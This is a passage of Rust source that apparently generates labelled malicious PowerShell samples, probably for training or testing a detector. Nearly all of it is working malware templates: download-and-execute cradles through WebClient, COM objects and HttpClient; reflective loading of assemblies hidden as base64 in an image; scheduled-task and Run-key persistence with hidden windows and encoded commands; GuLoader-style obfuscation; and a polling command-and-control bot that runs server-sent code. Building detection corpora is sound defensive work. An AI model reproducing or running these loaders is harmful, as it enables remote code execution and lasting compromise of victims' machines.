        "@BEFORE@$imageUrl = @URL@;\n$webClient = New-Object System.Net.WebClient;\n$webClient.Headers.Add('User-Agent','Mozilla/5.0');\n$imageBytes = $webClient.DownloadData($imageUrl);\n$imageText = [System.Text.Encoding]::UTF8.GetString($imageBytes);\n$startFlag = '<<BASE64_START>>';\n$endFlag = '<<BASE64_END>>';\n$startIndex = $imageText.IndexOf($startFlag);\n$endIndex = $imageText.IndexOf($endFlag);\nif ($startIndex -ge 0 -and $endIndex -gt $startIndex) {\n    $startIndex += $startFlag.Length;\n    $base64Length = $endIndex - $startIndex;\n    $base64Command = $imageText.Substring($startIndex, $base64Length);\n    $commandBytes = [System.Convert]::FromBase64String($base64Command);\n    $loadedAssembly = [System.Reflection.Assembly]::Load($commandBytes);\n    $type = $loadedAssembly.GetType('@TYPE@.Home');\n    $method = $type.GetMethod('VAI').Invoke($null, [object[]] ('@ARG@', 'desativado', 'desativado', 'RegAsm', ''));\n}\n",
        &[("BEFORE", &before), ("URL", &word), ("TYPE", &camel(dice)), ("ARG", &letters(dice, 6))],
    )
}

fn objects(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".html"]);
    let (before, word) = hidden(dice, &url);
    let own = name(dice);
    match dice.below(6) {
        0 => format!(
            "{before}${own} = New-Object -ComObject MSXML2.ServerXMLHTTP\n${own}.open('GET', {word}, $false)\n${own}.send()\niex ${own}.responseText\n"
        ),
        1 => format!(
            "{before}${own} = New-Object -ComObject WinHttp.WinHttpRequest.5.1;${own}.Open('GET',{word},$false);${own}.Send();IEX ${own}.ResponseText\n"
        ),
        2 => format!(
            "{before}${own} = New-Object -ComObject InternetExplorer.Application\n${own}.Visible = $false\n${own}.Navigate({word})\nwhile (${own}.Busy) {{ Start-Sleep -Milliseconds 100 }}\nInvoke-Expression ${own}.Document.Body.InnerText\n${own}.Quit()\n"
        ),
        3 => format!(
            "{before}${own} = [System.Net.HttpWebRequest]::Create({word})\n${own}.UserAgent = '{}'\n${own}.Method = 'GET'\n$resp = ${own}.GetResponse()\n$sr = New-Object System.IO.StreamReader($resp.GetResponseStream())\n$body = $sr.ReadToEnd()\n[ScriptBlock]::Create($body).Invoke()\n",
            agent(dice)
        ),
        4 => format!(
            "{before}Add-Type -AssemblyName System.Net.Http\n${own} = New-Object System.Net.Http.HttpClient\n$task = ${own}.GetStringAsync({word})\n$task.Wait()\niex $task.Result\n"
        ),
        _ => format!(
            "{before}$ad = [AppDomain]::CurrentDomain\n${own} = New-Object Net.WebClient\n[Reflection.Assembly]::Load(${own}.DownloadData({word})).EntryPoint.Invoke($null, @(,[string[]]@()))\n"
        ),
    }
}

fn task(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1"]);
    let name = dice.name();
    match dice.below(4) {
        0 => format!(
            "$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -nop -c \"iex(irm ''{url}'')\"'\n$trigger = New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(1) -RepetitionInterval (New-TimeSpan -Minutes 5)\nRegister-ScheduledTask -TaskName '{name}' -Action $action -Trigger $trigger -Force | Out-Null\n"
        ),
        1 => format!(
            "schtasks /create /f /sc minute /mo 10 /tn \"{name}\" /tr \"powershell -ep bypass -w hidden -enc {}\"\n",
            base64(&wide(&format!("IEX (New-Object Net.WebClient).DownloadString('{url}')")))
        ),
        2 => format!(
            "$code = @'\n$u = '{url}'\n$w = New-Object Net.WebClient\niex $w.DownloadString($u)\n'@\n$path = \"$env:APPDATA\\{name}.ps1\"\nSet-Content -Path $path -Value $code\nNew-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '{name}' -Value \"powershell -w hidden -ep bypass -File $path\" -Force | Out-Null\n& powershell -w hidden -ep bypass -File $path\n"
        ),
        _ => {
            let (before, word) = hidden(dice, &url);
            format!(
                "{before}$job = Start-Job -ScriptBlock {{ param($u) iex (New-Object Net.WebClient).DownloadString($u) }} -ArgumentList {word}\nWait-Job $job | Out-Null\n"
            )
        }
    }
}

/// Every string through the same function, as GuLoader has it.
fn guloader(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".bin", ".dwp", ".snp"]);
    let (function, runs, step) = (camel(dice), camel(dice), 4 + dice.below(4));
    let mut out = every(&function, step, dice);
    let (one, two, three, four) = (name(dice), name(dice), name(dice), name(dice));
    let mut say = |text: &str| format!("{function} '{}'", sparse(dice, text, step));
    let (expression, make, address, place, fetch) = (
        say("iex"),
        say("$global:cl=New-Object System.Net.WebClient"),
        say(&url),
        say("\\Roaming.Dat"),
        say(&format!("$cl.DownloadFile(${one}, ${two})")),
    );
    out.push_str(&format!(
        "${three} = {expression}\nfunction {runs} (${four}) {{ & (${three}) ${four} }}\n${one} = {address}\n${two} = $env:appdata + ({place})\n{runs} ({make})\n{runs} ({fetch})\n"
    ));
    for line in 0..dice.below(12) {
        out.push_str(&format!("# {line} {} {}\n", letters(dice, 11), letters(dice, 8)));
    }
    out
}

/// A class in C# does it.
fn compiled(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".exe", ""]);
    let (before, word) = hidden(dice, &url);
    let (class, method) = (camel(dice), camel(dice));
    let (class, method) = (format!("C{class}"), format!("M{method}"));
    format!(
        "{before}$src = @\"\nusing System;\nusing System.Net;\npublic class {class} {{\n    public static string {method}(string u) {{\n        using (WebClient c = new WebClient()) {{ return c.DownloadString(u); }}\n    }}\n}}\n\"@\nAdd-Type -TypeDefinition $src -Language CSharp\nInvoke-Expression ([{class}]::{method}({word}))\n"
    )
}

fn archive(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".zip"]);
    let (before, word) = hidden(dice, &url);
    let (folder, program) = (dice.name(), dice.name());
    put(
        "@BEFORE@$dest = \"$env:APPDATA\\@FOLDER@\"\nif (-not (Test-Path $dest)) { New-Item -ItemType Directory -Path $dest | Out-Null }\n$zip = \"$dest\\pack.zip\"\n$ProgressPreference = 'SilentlyContinue'\nInvoke-WebRequest -Uri @URL@ -OutFile $zip\nExpand-Archive -Path $zip -DestinationPath $dest -Force\nRemove-Item $zip\nStart-Process \"$dest\\@PROGRAM@.exe\"\nNew-ItemProperty -Path 'HKCU:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '@FOLDER@' -Value \"$dest\\@PROGRAM@.exe\" -PropertyType String | Out-Null\n",
        &[("BEFORE", &before), ("FOLDER", &folder), ("PROGRAM", &program), ("URL", &word)],
    )
}

/// A bot that asks again and again.
fn client(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    let page = dice.pick(&["Vre", "is-ready", "api/v2/tasks"]);
    truth.urls.insert(format!("http://{host}:{port}/{page}"));
    let (before, word) = hidden(dice, &host);
    put(
        "@BEFORE@$ip = @HOST@\n$port = '@PORT@'\n$split = '|V|'\n[string]$info = $env:COMPUTERNAME + '\\' + $env:USERNAME\nfunction Send-@F@ ([string]$cmd, [string]$data) {\n    try {\n        $req = [System.Net.HttpWebRequest]::Create('http://' + $ip + ':' + $port + '/' + $cmd)\n        $req.Method = 'POST'\n        $req.UserAgent = $info\n        $body = [Text.Encoding]::ASCII.GetBytes($data)\n        $s = $req.GetRequestStream()\n        $s.Write($body, 0, $body.Length)\n        $s.Close()\n        return (New-Object IO.StreamReader($req.GetResponse().GetResponseStream())).ReadToEnd()\n    } catch { return '' }\n}\nwhile ($true) {\n    $a = (Send-@F@ '@PAGE@' '').Split([string[]]$split, 'None')\n    switch ($a[0]) {\n        'Cl' { exit }\n        'Ex' { iex $a[1] }\n    }\n    Start-Sleep 3\n}\n",
        &[
            ("BEFORE", &before),
            ("HOST", &word),
            ("PORT", &port.to_string()),
            ("PAGE", page),
            ("F", &camel(dice)),
        ],
    )
}

/// Server and path apart, as Chameleon leaves them.
fn parted(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1"]);
    let (server, path) = halves(&url);
    let (before, one) = hidden(dice, &server);
    let (more, two) = hidden(dice, &path);
    let (a, b, c) = (name(dice), name(dice), name(dice));
    let text = fetched(dice, &format!("${c}"));
    let line = run(dice, &text);
    match dice.below(3) {
        0 => format!("{before}{more}${a} = {one}\n${b} = {two}\n${c} = ${a} + ${b}\n{line}\n"),
        1 => format!(
            "{before}{more}Set-Variable -Name {a} -Value {one}\nsv {b} {two}\n${c} = (Get-Variable {a} -ValueOnly) + (gv {b}).Value\n{line}\n"
        ),
        _ => format!(
            "{before}{more}$env:{a} = {one}\n${c} = '{{0}}{{1}}' -f $env:{a},{two}\n{line}\n"
        ),
    }
}
